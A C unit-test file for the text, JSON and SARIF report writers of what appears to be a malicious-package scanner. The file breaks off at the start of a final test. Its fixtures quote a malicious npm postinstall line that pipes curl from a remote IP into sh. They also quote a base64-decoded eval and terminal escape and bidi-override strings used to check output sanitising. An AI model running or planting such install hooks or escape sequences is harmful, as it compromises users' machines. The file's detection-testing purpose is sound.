/* test-report.c - the text, JSON and SARIF writers.
 *
 * When $PW_REPORT_SAMPLES names a directory, the SARIF and JSON documents
 * written here are also saved there (*.sarif, *.json) so
 * tests/cli/test-sarif-schema.sh can validate them against the official
 * SARIF 2.1.0 schema and docs/pkgward-report.schema.json.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pkgward.h"
#include "report/report.h"
#include "testutil.h"

/* ---- helpers ---------------------------------------------------------------- */

static char *write_fmt(const pw_report *rep, pw_format fmt,
                       const pw_write_options *opt, size_t *len)
{
    char *buf = NULL;
    size_t n = 0;
    FILE *f = open_memstream(&buf, &n);
    assert_non_null(f);
    pw_error err;
    memset(&err, 0, sizeof err);
    pw_status st = pw_report_write(rep, fmt, f, opt, &err);
    if (st != PW_OK)
        fprintf(stderr, "pw_report_write: %s\n", err.msg);
    assert_int_equal(st, PW_OK);
    assert_int_equal(fclose(f), 0);
    if (len)
        *len = n;
    return buf;
}

static json_t *parse_json(const char *text)
{
    json_error_t jerr;
    json_t *j = json_loads(text, JSON_REJECT_DUPLICATES, &jerr);
    if (!j)
        fprintf(stderr, "invalid JSON at %d:%d: %s\n", jerr.line,
                jerr.column, jerr.text);
    assert_non_null(j);
    return j;
}

static void save_sample(const char *name, const char *ext, const char *text)
{
    const char *dir = getenv("PW_REPORT_SAMPLES");
    if (!dir || !*dir)
        return;
    char path[4096];
    snprintf(path, sizeof path, "%s/%s.%s", dir, name, ext);
    assert_int_equal(tu_write_file(path, text, strlen(text)), 0);
}

static const char *jstr(json_t *obj, const char *key)
{
    json_t *v = json_object_get(obj, key);
    assert_true(json_is_string(v));
    return json_string_value(v);
}

static json_int_t jint(json_t *obj, const char *key)
{
    json_t *v = json_object_get(obj, key);
    assert_true(json_is_integer(v));
    return json_integer_value(v);
}

static int valid_utf8(const unsigned char *p, size_t n)
{
    /* jansson's loader validates UTF-8 strictly: reuse it on a string */
    json_t *s = json_stringn((const char *)p, n);
    int ok = s != NULL;
    json_decref(s);
    return ok;
}

static pw_finding mkfinding(const char *rule, pw_severity sev,
                            const char *path, size_t line, size_t col)
{
    pw_finding f;
    memset(&f, 0, sizeof f);
    f.rule = rule;
    f.title = "";
    f.severity = sev;
    f.category = "";
    f.confidence = 100;
    f.path = path;
    f.line = line;
    f.column = col;
    return f;
}

/* The small example report:
 *   evil-1.0.0.tgz  npm evil@1.0.0: two findings (critical, high) + low + info
 *   node_modules/good  npm good@2.0.0: none
 *   sus-0.1.tar.gz  pypi sus@0.1: one medium, package-level (no path, line)
 * plus two errors. Added in a scrambled order; pw_report_sort fixes it. */
static pw_report *sample_report(void)
{
    pw_report *rep = pw_report_new();
    pwi_pkg_desc good = {"npm", "good", "2.0.0", "node_modules/good", "", 4,
                         2048};
    pwi_pkg_desc sus = {"pypi", "sus", "0.1", "sus-0.1.tar.gz", "sus-0.1", 2,
                        900};
    pwi_pkg_desc evil = {"npm", "evil", "1.0.0", "evil-1.0.0.tgz", "package",
                         3, 1234};
    pwi_report_add_package(rep, &good);
    size_t s = pwi_report_add_package(rep, &sus);
    size_t e = pwi_report_add_package(rep, &evil);

    pw_finding f = mkfinding("js-debug-log", PW_SEV_INFO, "index.js", 2, 1);
    f.title = "Writes to the console";
    f.category = "metadata";
    pwi_report_add_finding(rep, e, &f);

    f = mkfinding("js-obfuscated-eval", PW_SEV_HIGH, "index.js", 12, 7);
    f.title = "Evaluates decoded code";
    f.category = "obfuscation";
    f.confidence = 80;
    f.message = "eval() of a string decoded at run time";
    f.evidence = "decoded from base64 at line 3";
    f.snippet = "eval(Buffer.from(s, 'base64').toString())";
    f.remediation = "Do not install this version.";
    pwi_report_add_finding(rep, e, &f);

    f = mkfinding("npm-install-downloader", PW_SEV_CRITICAL, "package.json",
                  5, 3);
    f.title = "Install script downloads and runs a program";
    f.category = "install-script";
    f.confidence = 95;
    f.message = "postinstall pipes curl into sh";
    f.snippet = "\"postinstall\": \"curl -s http://198.51.100.7/x | sh\"";
    f.remediation = "Do not install this version; pin the previous release "
                    "and report the package.";
    pwi_report_add_finding(rep, e, &f);

    f = mkfinding("js-minified-file", PW_SEV_LOW, "dist/a.js", 1, 0);
    f.title = "Minified file in a small package";
    f.category = "obfuscation";
    pwi_report_add_finding(rep, e, &f);

    f = mkfinding("py-typosquat-name", PW_SEV_MEDIUM, "", 0, 0);
    f.title = "Name is one edit away from a popular package";
    f.category = "metadata";
    f.confidence = 100;
    f.message = "\"sus\" resembles \"six\"";
    f.remediation = "Check that you meant this package.";
    pwi_report_add_finding(rep, s, &f);

    pwi_report_add_error(rep, "package-lock.json", PW_ERR_UNSUPPORTED,
                         "\"lockfileVersion\" 7 is not supported", 1287);
    pwi_report_add_error(rep, "broken.tgz", PW_ERR_FORMAT,
                         "truncated gzip stream", 0);

    pw_thresholds t;
    pw_thresholds_default(&t);
    pwi_report_apply_verdicts(rep, &t);
    pw_report_sort(rep);
    return rep;
}

static const char HOSTILE_SNIPPET[] =
    "a\x1b[2J\x1b]0;pwned\x07 b\r\nc\x7f d\"q\\ \xff\xfe \xc0\xaf \x80 "
    "\xc2\x9b" "31m \xe2\x80\xae" "evil \xe2\x82";

static pw_report *hostile_report(char **long_snippet)
{
    pw_report *rep = pw_report_new();
    pwi_pkg_desc d = {"npm", "\x1b[31mred\xff", "1.0\n0", "dir/\x1b]8;;x\x07",
                      "", 1, 10};
    size_t p = pwi_report_add_package(rep, &d);
    pw_finding f = mkfinding("js-hostile", PW_SEV_HIGH,
                             "lib/\x1b[1mbold\xe9.js", 3, 4);
    f.title = "Title with \x1b[5m blink";
    f.category = "evasion";
    f.message = "message\nerror: fake line";
    f.evidence = "evidence \xf0\x9f\x92\xa3 ok \xf5\x80\x80\x80";
    f.snippet = HOSTILE_SNIPPET;
    f.remediation = "fix \x1b[0m";
    pwi_report_add_finding(rep, p, &f);

    size_t n = 100000;
    char *big = malloc(n + 1);
    assert_non_null(big);
    for (size_t i = 0; i < n; i++)
        big[i] = (char)('a' + i % 26);
    big[n] = '\0';
    f = mkfinding("js-long-line", PW_SEV_LOW, "big.js", 1, 1);
    f.title = "Very long line";
    f.snippet = big;
    pwi_report_add_finding(rep, p, &f);
    *long_snippet = big;

    pwi_report_add_error(rep, "in\x1b[2Jput\xff", PW_ERR_IO, "bad\nthing", 2);
    pw_thresholds t;
    pw_thresholds_default(&t);
    pwi_report_apply_verdicts(rep, &t);
    pw_report_sort(rep);
    return rep;
}

/* ---- text --------------------------------------------------------------------- */

static const char SAMPLE_TEXT[] =
    "evil-1.0.0.tgz [package]: npm evil@1.0.0: MALICIOUS (score 9.5)\n"
    "  critical  npm-install-downloader  package.json:5:3  Install script downloads and runs a program\n"
    "    postinstall pipes curl into sh\n"
    "    > \"postinstall\": \"curl -s http://198.51.100.7/x | sh\"\n"
    "    fix: Do not install this version; pin the previous release and report the package.\n"
    "  high      js-obfuscated-eval  index.js:12:7  Evaluates decoded code\n"
    "    eval() of a string decoded at run time\n"
    "    evidence: decoded from base64 at line 3\n"
    "    > eval(Buffer.from(s, 'base64').toString())\n"
    "    fix: Do not install this version.\n"
    "  low       js-minified-file  dist/a.js:1  Minified file in a small package\n"
    "  info      js-debug-log  index.js:2:1  Writes to the console\n"
    "node_modules/good: npm good@2.0.0: clean (score 0)\n"
    "sus-0.1.tar.gz [sus-0.1]: pypi sus@0.1: suspicious (score 3)\n"
    "  medium    py-typosquat-name  (package)  Name is one edit away from a popular package\n"
    "    \"sus\" resembles \"six\"\n"
    "    fix: Check that you meant this package.\n"
    "error: broken.tgz: truncated gzip stream\n"
    "error: package-lock.json:1287: \"lockfileVersion\" 7 is not supported\n"
    "3 packages: 1 malicious, 1 suspicious, 1 clean; 5 findings (1 critical, "
    "1 high, 1 medium, 1 low, 1 info); 2 errors\n";

static void test_text_sample(void **state)
{
    (void)state;
    pw_report *rep = sample_report();
    char *text = write_fmt(rep, PW_FORMAT_TEXT, NULL, NULL);
    assert_string_equal(text, SAMPLE_TEXT);
    free(text);
    pw_report_free(rep);
}

/* Removes ESC [ ... m sequences. */
static void strip_ansi(char *s)
{
    char *w = s;
    for (char *r = s; *r;) {
        if (r[0] == '\033' && r[1] == '[') {
            r += 2;
            while (*r && *r != 'm')
                r++;
            if (*r)
                r++;
            continue;
        }
        *w++ = *r++;
    }
    *w = '\0';
}

static void test_text_color(void **state)
{
    (void)state;
    pw_report *rep = sample_report();
    pw_write_options opt;
    pw_write_options_init(&opt);
    opt.color = 1;
    char *text = write_fmt(rep, PW_FORMAT_TEXT, &opt, NULL);
    assert_non_null(strstr(text, "\033[1;31mMALICIOUS\033[0m (score 9.5)"));
    assert_non_null(strstr(text, "  \033[1;31mcritical\033[0m  npm-install"));
    assert_non_null(strstr(text, "\033[33mmedium\033[0m    py-typosquat"));
    assert_non_null(strstr(text, "\033[32mclean\033[0m"));
    /* colour changes nothing but the codes */
    strip_ansi(text);
    assert_string_equal(text, SAMPLE_TEXT);
    free(text);
    pw_report_free(rep);
}

static void test_text_quiet(void **state)
{
    (void)state;
    pw_report *rep = sample_report();
    pw_write_options opt;
    pw_write_options_init(&opt);
    opt.quiet = 1;
    char *text = write_fmt(rep, PW_FORMAT_TEXT, &opt, NULL);
    assert_string_equal(
        text,
        "error: broken.tgz: truncated gzip stream\n"
        "error: package-lock.json:1287: \"lockfileVersion\" 7 is not supported\n"
        "3 packages: 1 malicious, 1 suspicious, 1 clean; 5 findings (1 critical, "
        "1 high, 1 medium, 1 low, 1 info); 2 errors\n");
    free(text);
    pw_report_free(rep);
}

static void test_text_hostile(void **state)
{
    (void)state;
    char *big;
    pw_report *rep = hostile_report(&big);
    pw_write_options opt;
    pw_write_options_init(&opt);
    size_t len;
    char *text = write_fmt(rep, PW_FORMAT_TEXT, &opt, &len);
    assert_int_equal(strlen(text), len);
    size_t lines = 0;
    for (size_t i = 0; i < len; i++) {
        unsigned char c = (unsigned char)text[i];
        assert_false(c < 0x20 && c != '\n'); /* no ESC, BEL, CR, ... */
        assert_int_not_equal(c, 0x7f);
        lines += c == '\n';
    }
    assert_true(valid_utf8((const unsigned char *)text, len));
    assert_null(strstr(text, "\xe2\x80\xae")); /* bidi override */
    assert_null(strstr(text, "\xc2\x9b"));     /* C1 CSI */
    /* header, 2 x (finding + message/evidence/snippet/fix), error, summary:
     * hostile newlines did not add lines */
    assert_int_equal(lines, 1 + 5 + 2 + 1 + 1);
    assert_non_null(strstr(text, "dir/\\x1b]8;;x\\x07: npm \\x1b[31mred\\xff@1.0\\x0a0: "));
    assert_non_null(strstr(text,
        "    > a\\x1b[2J\\x1b]0;pwned\\x07 b\\x0d\\x0ac\\x7f d\"q\\ \\xff\\xfe "
        "\\xc0\\xaf \\x80 \\u009b31m \\u202eevil \\xe2\\x82\n"));
    assert_non_null(strstr(text, "    message\\x0aerror: fake line\n"));
    assert_non_null(strstr(text, "evidence \xf0\x9f\x92\xa3 ok \\xf5\\x80\\x80\\x80\n"));
    assert_non_null(strstr(text, "error: in\\x1b[2Jput\\xff:2: bad\\x0athing\n"));
    assert_non_null(strstr(text, big)); /* long snippets are not cut */
    free(text);
    free(big);
    pw_report_free(rep);
}

/* ---- JSON --------------------------------------------------------------------- */

static void assert_keys(json_t *obj, const char *const *keys, size_t n)
{
    size_t i = 0;
    for (void *it = json_object_iter(obj); it;
         it = json_object_iter_next(obj, it), i++) {
        assert_true(i < n);
        assert_string_equal(json_object_iter_key(it), keys[i]);
    }
    assert_int_equal(i, n);
}

static void test_json_sample(void **state)
{
    (void)state;
    pw_report *rep = sample_report();
    char *text = write_fmt(rep, PW_FORMAT_JSON, NULL, NULL);
    save_sample("sample", "json", text);
    assert_true(strncmp(text, "{\n  \"schema_version\": 1,\n", 25) == 0);
    assert_int_equal(text[strlen(text) - 1], '\n');
    json_t *root = parse_json(text);

    static const char *const top[] = {"schema_version", "tool", "packages",
                                      "errors", "summary"};
    assert_keys(root, top, 5);
    assert_int_equal(jint(root, "schema_version"), 1);
    json_t *tool = json_object_get(root, "tool");
    assert_string_equal(jstr(tool, "name"), "pkgward");
    assert_string_equal(jstr(tool, "version"), pw_version());

    json_t *pkgs = json_object_get(root, "packages");
    assert_int_equal(json_array_size(pkgs), 3);
    static const char *const pkeys[] = {"ecosystem", "name", "version",
                                        "source", "root", "verdict", "score",
                                        "files", "bytes", "findings"};
    static const char *const fkeys[] = {
        "rule", "title", "severity", "category", "confidence", "path", "line",
        "column", "message", "evidence", "remediation", "fingerprint",
        "snippet"};
    for (size_t i = 0; i < 3; i++) {
        json_t *p = json_array_get(pkgs, i);
        const pw_package_info *info = pw_report_package(rep, i);
        assert_keys(p, pkeys, 10);
        assert_string_equal(jstr(p, "source"), info->source);
        assert_string_equal(jstr(p, "name"), info->name);
        assert_string_equal(jstr(p, "verdict"), pw_verdict_name(info->verdict));
        json_t *fs = json_object_get(p, "findings");
        assert_int_equal(json_array_size(fs), pw_report_finding_count(rep, i));
        for (size_t j = 0; j < json_array_size(fs); j++) {
            json_t *f = json_array_get(fs, j);
            const pw_finding *rf = pw_report_finding(rep, i, j);
            assert_keys(f, fkeys, 13);
            assert_string_equal(jstr(f, "rule"), rf->rule);
            assert_string_equal(jstr(f, "fingerprint"), rf->fingerprint);
            assert_int_equal(strlen(rf->fingerprint), 16);
            assert_string_equal(jstr(f, "snippet"), rf->snippet);
            assert_int_equal(jint(f, "line"), rf->line);
        }
    }
    json_t *evil = json_array_get(pkgs, 0);
    assert_string_equal(jstr(evil, "ecosystem"), "npm");
    assert_string_equal(jstr(evil, "version"), "1.0.0");
    assert_string_equal(jstr(evil, "root"), "package");
    assert_string_equal(jstr(evil, "verdict"), "malicious");
    assert_true(json_is_real(json_object_get(evil, "score")));
    assert_true(json_real_value(json_object_get(evil, "score")) == 9.5);
    assert_int_equal(jint(evil, "files"), 3);
    assert_int_equal(jint(evil, "bytes"), 1234);
    json_t *f0 = json_array_get(json_object_get(evil, "findings"), 0);
    assert_string_equal(jstr(f0, "rule"), "npm-install-downloader");
    assert_string_equal(jstr(f0, "severity"), "critical");
    assert_string_equal(jstr(f0, "category"), "install-script");
    assert_int_equal(jint(f0, "confidence"), 95);
    assert_string_equal(jstr(f0, "path"), "package.json");
    assert_int_equal(jint(f0, "column"), 3);
    assert_string_equal(jstr(f0, "evidence"), "");
    json_t *f1 = json_array_get(json_object_get(evil, "findings"), 1);
    assert_string_equal(jstr(f1, "evidence"), "decoded from base64 at line 3");
    assert_string_equal(jstr(f1, "severity"), "high");

    json_t *errs = json_object_get(root, "errors");
    assert_int_equal(json_array_size(errs), 2);
    static const char *const ekeys[] = {"input", "code", "message", "line"};
    assert_keys(json_array_get(errs, 0), ekeys, 4);
    assert_string_equal(jstr(json_array_get(errs, 0), "input"), "broken.tgz");
    assert_string_equal(jstr(json_array_get(errs, 0), "code"), "format");
    assert_int_equal(jint(json_array_get(errs, 0), "line"), 0);
    assert_string_equal(jstr(json_array_get(errs, 1), "code"), "unsupported");
    assert_int_equal(jint(json_array_get(errs, 1), "line"), 1287);

    json_t *sum = json_object_get(root, "summary");
    assert_int_equal(jint(sum, "packages"), 3);
    assert_int_equal(jint(sum, "malicious"), 1);
    assert_int_equal(jint(sum, "suspicious"), 1);
    assert_int_equal(jint(sum, "clean"), 1);
    assert_int_equal(jint(sum, "findings"), 5);
    assert_int_equal(jint(sum, "omitted"), 0);
    assert_int_equal(jint(sum, "errors"), 2);
    assert_string_equal(jstr(sum, "min_severity"), "info");
    json_t *bs = json_object_get(sum, "by_severity");
    static const char *const skeys[] = {"critical", "high", "medium", "low",
                                        "info"};
    assert_keys(bs, skeys, 5);
    assert_int_equal(jint(bs, "critical"), 1);

    json_decref(root);
    free(text);
    pw_report_free(rep);
}

static void test_json_hostile(void **state)
{
    (void)state;
    char *big;
    pw_report *rep = hostile_report(&big);
    size_t len;
    char *text = write_fmt(rep, PW_FORMAT_JSON, NULL, &len);
    save_sample("hostile", "json", text);
    assert_true(valid_utf8((const unsigned char *)text, len));
    for (size_t i = 0; i < len; i++) /* jansson escapes every control */
        assert_false((unsigned char)text[i] < 0x20 && text[i] != '\n');
    json_t *root = parse_json(text);
    json_t *p = json_array_get(json_object_get(root, "packages"), 0);
    assert_string_equal(jstr(p, "name"), "\x1b[31mred\xef\xbf\xbd");
    assert_string_equal(jstr(p, "version"), "1.0\n0");
    json_t *fs = json_object_get(p, "findings");
    json_t *f = json_array_get(fs, 0);
    assert_string_equal(jstr(f, "path"), "lib/\x1b[1mbold\xef\xbf\xbd.js");
    assert_string_equal(
        jstr(f, "snippet"),
        "a\x1b[2J\x1b]0;pwned\x07 b\r\nc\x7f d\"q\\ \xef\xbf\xbd\xef\xbf\xbd "
        "\xef\xbf\xbd\xef\xbf\xbd \xef\xbf\xbd \xc2\x9b" "31m \xe2\x80\xae"
        "evil \xef\xbf\xbd\xef\xbf\xbd");
    assert_string_equal(jstr(f, "evidence"),
                        "evidence \xf0\x9f\x92\xa3 ok \xef\xbf\xbd\xef\xbf\xbd"
                        "\xef\xbf\xbd\xef\xbf\xbd");
    assert_string_equal(jstr(json_array_get(fs, 1), "snippet"), big);
    json_t *e = json_array_get(json_object_get(root, "errors"), 0);
    assert_string_equal(jstr(e, "input"), "in\x1b[2Jput\xef\xbf\xbd");
    assert_string_equal(jstr(e, "code"), "io");
    json_decref(root);
    free(text);
    free(big);
    pw_report_free(rep);
}

/* ---- SARIF -------------------------------------------------------------------- */

static json_t *sarif_run(json_t *root)
{
    assert_string_equal(jstr(root, "$schema"),
                        "https://json.schemastore.org/sarif-2.1.0.json");
    assert_string_equal(jstr(root, "version"), "2.1.0");
    json_t *runs = json_object_get(root, "runs");
    assert_int_equal(json_array_size(runs), 1);
    return json_array_get(runs, 0);
}

static json_t *sarif_phys(json_t *result)
{
    json_t *locs = json_object_get(result, "locations");
    assert_int_equal(json_array_size(locs), 1);
    return json_object_get(json_array_get(locs, 0), "physicalLocation");
}

static void test_sarif_sample(void **state)
{
    (void)state;
    pw_report *rep = sample_report();
    char *text = write_fmt(rep, PW_FORMAT_SARIF, NULL, NULL);
    save_sample("sample", "sarif", text);
    json_t *root = parse_json(text);
    json_t *run = sarif_run(root);

    json_t *driver = json_object_get(json_object_get(run, "tool"), "driver");
    assert_string_equal(jstr(driver, "name"), "pkgward");
    assert_string_equal(jstr(driver, "version"), pw_version());
    assert_string_equal(jstr(driver, "informationUri"),
                        "https://github.com/pkgward/pkgward");
    json_t *rules = json_object_get(driver, "rules");
    static const char *const ids[] = {"js-debug-log", "js-minified-file",
                                      "js-obfuscated-eval",
                                      "npm-install-downloader",
                                      "py-typosquat-name"};
    assert_int_equal(json_array_size(rules), 5);
    for (size_t i = 0; i < 5; i++)
        assert_string_equal(jstr(json_array_get(rules, i), "id"), ids[i]);
    json_t *r3 = json_array_get(rules, 3);
    assert_string_equal(jstr(r3, "name"), "NpmInstallDownloader");
    assert_string_equal(jstr(json_object_get(r3, "shortDescription"), "text"),
                        "Install script downloads and runs a program");
    assert_non_null(json_object_get(r3, "fullDescription"));
    json_t *help = json_object_get(r3, "help");
    assert_non_null(strstr(jstr(help, "text"), "Remediation: Do not install"));
    assert_non_null(strstr(jstr(help, "markdown"), "**Remediation:**"));
    assert_string_equal(
        jstr(json_object_get(r3, "defaultConfiguration"), "level"), "error");
    json_t *rp = json_object_get(r3, "properties");
    assert_string_equal(jstr(rp, "category"), "install-script");
    assert_string_equal(jstr(rp, "severity"), "critical");
    assert_string_equal(jstr(rp, "security-severity"), "9.5");
    assert_int_equal(json_array_size(json_object_get(rp, "tags")), 2);
    assert_string_equal(
        jstr(json_object_get(json_array_get(rules, 4), "defaultConfiguration"),
             "level"),
        "warning");
    assert_string_equal(
        jstr(json_object_get(json_array_get(rules, 0), "defaultConfiguration"),
             "level"),
        "note");

    json_t *results = json_object_get(run, "results");
    assert_int_equal(json_array_size(results), 5);
    /* results follow the report order; ruleIndex points at the rule */
    size_t k = 0;
    for (size_t i = 0; i < pw_report_package_count(rep); i++)
        for (size_t j = 0; j < pw_report_finding_count(rep, i); j++, k++) {
            const pw_finding *f = pw_report_finding(rep, i, j);
            json_t *r = json_array_get(results, k);
            assert_string_equal(jstr(r, "ruleId"), f->rule);
            json_t *rule = json_array_get(rules, (size_t)jint(r, "ruleIndex"));
            assert_string_equal(jstr(rule, "id"), f->rule);
            assert_string_equal(
                jstr(json_object_get(r, "partialFingerprints"), "pkgward/v1"),
                f->fingerprint);
        }

    json_t *r0 = json_array_get(results, 0);
    assert_string_equal(jstr(r0, "level"), "error");
    assert_string_equal(jstr(json_object_get(r0, "message"), "text"),
                        "postinstall pipes curl into sh");
    json_t *phys = sarif_phys(r0);
    json_t *art = json_object_get(phys, "artifactLocation");
    assert_string_equal(jstr(art, "uri"),
                        "evil-1.0.0.tgz!/package/package.json");
    assert_string_equal(jstr(art, "uriBaseId"), "%SRCROOT%");
    json_t *region = json_object_get(phys, "region");
    assert_int_equal(jint(region, "startLine"), 5);
    assert_int_equal(jint(region, "startColumn"), 3);
    assert_string_equal(jstr(json_object_get(region, "snippet"), "text"),
                        "\"postinstall\": \"curl -s http://198.51.100.7/x | sh\"");
    json_t *props = json_object_get(r0, "properties");
    assert_string_equal(jstr(props, "verdict"), "malicious");
    assert_string_equal(jstr(props, "category"), "install-script");
    assert_int_equal(jint(props, "confidence"), 95);
    json_t *pkg = json_object_get(props, "package");
    assert_string_equal(jstr(pkg, "ecosystem"), "npm");
    assert_string_equal(jstr(pkg, "name"), "evil");
    assert_string_equal(jstr(pkg, "version"), "1.0.0");

    assert_string_equal(jstr(json_array_get(results, 1), "level"), "error");
    /* low: no column -> no startColumn */
    json_t *r2 = json_array_get(results, 2);
    assert_string_equal(jstr(r2, "level"), "note");
    region = json_object_get(sarif_phys(r2), "region");
    assert_int_equal(jint(region, "startLine"), 1);
    assert_null(json_object_get(region, "startColumn"));
    assert_null(json_object_get(region, "snippet"));
    /* package-level finding: no region, uri of the package root */
    json_t *r4 = json_array_get(results, 4);
    assert_string_equal(jstr(r4, "level"), "warning");
    phys = sarif_phys(r4);
    assert_null(json_object_get(phys, "region"));
    assert_string_equal(jstr(json_object_get(phys, "artifactLocation"), "uri"),
                        "sus-0.1.tar.gz!/sus-0.1");
    assert_string_equal(jstr(json_object_get(r4, "properties"), "verdict"),
                        "suspicious");

    json_t *inv = json_array_get(json_object_get(run, "invocations"), 0);
    assert_true(json_is_false(json_object_get(inv, "executionSuccessful")));
    json_t *notes = json_object_get(inv, "toolExecutionNotifications");
    assert_int_equal(json_array_size(notes), 2);
    json_t *n0 = json_array_get(notes, 0);
    assert_string_equal(jstr(n0, "level"), "error");
    assert_string_equal(jstr(json_object_get(n0, "message"), "text"),
                        "broken.tgz: truncated gzip stream");
    json_t *n1 = json_array_get(notes, 1);
    assert_string_equal(jstr(json_object_get(n1, "properties"), "code"),
                        "unsupported");
    assert_int_equal(
        jint(json_object_get(sarif_phys(n1), "region"), "startLine"), 1287);

    json_decref(root);
    free(text);
    pw_report_free(rep);
}

static void test_sarif_uris(void **state)
{
    (void)state;
    pw_report *rep = pw_report_new();
    pwi_pkg_desc a = {"npm", "x", "1", "my dir/x#y", "", 1, 1};
    pwi_pkg_desc b = {"npm", "@s/p", "1", "/abs/node_modules/@s/p", "", 1, 1};
    pwi_pkg_desc c = {"pypi", "w", "1", "dist/w-1.whl!inner.tar.gz", "w-1",
                      1, 1};
    size_t ia = pwi_report_add_package(rep, &a);
    size_t ib = pwi_report_add_package(rep, &b);
    size_t ic = pwi_report_add_package(rep, &c);
    pw_finding f = mkfinding("r1", PW_SEV_HIGH, "a:b%c/\xc3\xbc!.js", 1, 1);
    pwi_report_add_finding(rep, ia, &f);
    f = mkfinding("r1", PW_SEV_HIGH, "lib/i.js", 2, 0);
    pwi_report_add_finding(rep, ib, &f);
    f = mkfinding("r2", PW_SEV_LOW, "bad\xff name.py", 0, 0);
    f.snippet = "no line";
    pwi_report_add_finding(rep, ic, &f);
    pw_report_sort(rep);

    char *text = write_fmt(rep, PW_FORMAT_SARIF, NULL, NULL);
    save_sample("uris", "sarif", text);
    json_t *root = parse_json(text);
    json_t *results = json_object_get(sarif_run(root), "results");
    assert_int_equal(json_array_size(results), 3);
    /* sorted by source: "/abs..." < "dist..." < "my dir..." */
    json_t *art = json_object_get(sarif_phys(json_array_get(results, 0)),
                                  "artifactLocation");
    assert_string_equal(jstr(art, "uri"),
                        "file:///abs/node_modules/@s/p/lib/i.js");
    assert_null(json_object_get(art, "uriBaseId"));
    json_t *r1 = json_array_get(results, 1);
    art = json_object_get(sarif_phys(r1), "artifactLocation");
    assert_string_equal(jstr(art, "uri"),
                        "dist/w-1.whl!inner.tar.gz!/w-1/bad%FF%20name.py");
    assert_null(json_object_get(sarif_phys(r1), "region"));
    assert_string_equal(jstr(json_object_get(r1, "properties"), "snippet"),
                        "no line");
    art = json_object_get(sarif_phys(json_array_get(results, 2)),
                          "artifactLocation");
    assert_string_equal(jstr(art, "uri"),
                        "my%20dir/x%23y/a%3Ab%25c/%C3%BC%21.js");
    /* no errors: a successful invocation without notifications */
    json_t *inv = json_array_get(
        json_object_get(sarif_run(root), "invocations"), 0);
    assert_true(json_is_true(json_object_get(inv, "executionSuccessful")));
    assert_null(json_object_get(inv, "toolExecutionNotifications"));
    json_decref(root);
    free(text);
    pw_report_free(rep);
}

static void test_sarif_hostile(void **state)
{
    (void)state;
    char *big;
    pw_report *rep = hostile_report(&big);
    size_t len;
    char *text = write_fmt(rep, PW_FORMAT_SARIF, NULL, &len);
    save_sample("hostile", "sarif", text);
    assert_true(valid_utf8((const unsigned char *)text, len));
    json_t *root = parse_json(text);
    json_t *results = json_object_get(sarif_run(root), "results");
    json_t *art = json_object_get(sarif_phys(json_array_get(results, 0)),
                                  "artifactLocation");
    assert_string_equal(jstr(art, "uri"),
                        "dir/%1B%5D8%3B%3Bx%07/lib/%1B%5B1mbold%E9.js");
    json_decref(root);
    free(text);
    free(big);
    pw_report_free(rep);
}

/* With a rule set, tool.driver.rules takes its metadata from the rules;
 * a rule id missing from the set falls back to the finding. */
static void test_sarif_rule_metadata(void **state)
{
    (void)state;
    char *dir = tu_tempdir();
    char path[4096];
    snprintf(path, sizeof path, "%s/pw-test-rule.yml", dir);
    static const char yml[] =
        "id: pw-test-rule\n"
        "title: Rule title from the rule file\n"
        "severity: medium\n"
        "confidence: 80\n"
        "category: exfiltration\n"
        "ecosystems: [npm]\n"
        "applies_to: js\n"
        "match:\n"
        "  regex: 'pw-test-never-matches-[0-9]{40}'\n"
        "description: \"What the rule means, at length.\"\n"
        "remediation: \"Remove the package.\"\n"
        "references: ['https://example.org/a', 'https://example.org/b']\n";
    assert_int_equal(tu_write_file(path, yml, strlen(yml)), 0);
    pw_rules *rules = NULL;
    pw_error err;
    memset(&err, 0, sizeof err);
    pw_status st = pw_rules_new(&rules, dir, &err);
    if (st != PW_OK)
        fprintf(stderr, "pw_rules_new: %s:%zu: %s\n", err.path, err.line,
                err.msg);
    assert_int_equal(st, PW_OK);
    assert_int_equal(pw_rules_compile(rules, &err), PW_OK);
    assert_non_null(pw_rules_find(rules, "pw-test-rule"));

    pw_report *rep = pw_report_new();
    pwi_pkg_desc d = {"npm", "x", "1.0.0", "x", "", 1, 1};
    size_t p = pwi_report_add_package(rep, &d);
    pw_finding f = mkfinding("pw-test-rule", PW_SEV_HIGH, "index.js", 3, 1);
    f.title = "finding title";
    f.category = "finding-category";
    pwi_report_add_finding(rep, p, &f);
    f = mkfinding("not-in-set", PW_SEV_LOW, "index.js", 4, 1);
    f.title = "Fallback title";
    f.category = "evasion";
    pwi_report_add_finding(rep, p, &f);
    pw_report_sort(rep);

    pw_write_options opt;
    pw_write_options_init(&opt);
    opt.rules = rules;
    char *text = write_fmt(rep, PW_FORMAT_SARIF, &opt, NULL);
    save_sample("rule-metadata", "sarif", text);
    json_t *root = parse_json(text);
    json_t *run = sarif_run(root);
    json_t *rarr = json_object_get(
        json_object_get(json_object_get(run, "tool"), "driver"), "rules");
    assert_int_equal(json_array_size(rarr), 2);
    json_t *fallback = json_array_get(rarr, 0);
    assert_string_equal(jstr(fallback, "id"), "not-in-set");
    assert_string_equal(
        jstr(json_object_get(fallback, "fullDescription"), "text"),
        "Fallback title");
    assert_null(json_object_get(fallback, "helpUri"));
    json_t *r = json_array_get(rarr, 1);
    assert_string_equal(jstr(r, "id"), "pw-test-rule");
    assert_string_equal(jstr(json_object_get(r, "shortDescription"), "text"),
                        "Rule title from the rule file");
    assert_string_equal(jstr(json_object_get(r, "fullDescription"), "text"),
                        "What the rule means, at length.");
    assert_string_equal(jstr(r, "helpUri"), "https://example.org/a");
    json_t *help = json_object_get(r, "help");
    assert_string_equal(jstr(help, "text"), "What the rule means, at length."
                                            "\n\nRemediation: Remove the package.");
    assert_non_null(strstr(jstr(help, "markdown"),
                           "\n- https://example.org/a\n- https://example.org/b"));
    /* the rule's default level is its own severity (medium) ... */
    assert_string_equal(
        jstr(json_object_get(r, "defaultConfiguration"), "level"), "warning");
    json_t *props = json_object_get(r, "properties");
    assert_string_equal(jstr(props, "severity"), "medium");
    assert_string_equal(jstr(props, "category"), "exfiltration");
    /* ... while the result keeps the finding's (high) */
    json_t *res = json_array_get(json_object_get(run, "results"), 0);
    assert_string_equal(jstr(res, "ruleId"), "pw-test-rule");
    assert_int_equal(jint(res, "ruleIndex"), 1);
    assert_string_equal(jstr(res, "level"), "error");

    json_decref(root);
    free(text);
    pw_report_free(rep);
    pw_rules_free(rules);
    tu_rmtree(dir);
    free(dir);
}

/* ---- all formats -------------------------------------------------------------- */

static void test_min_severity(void **state)
{
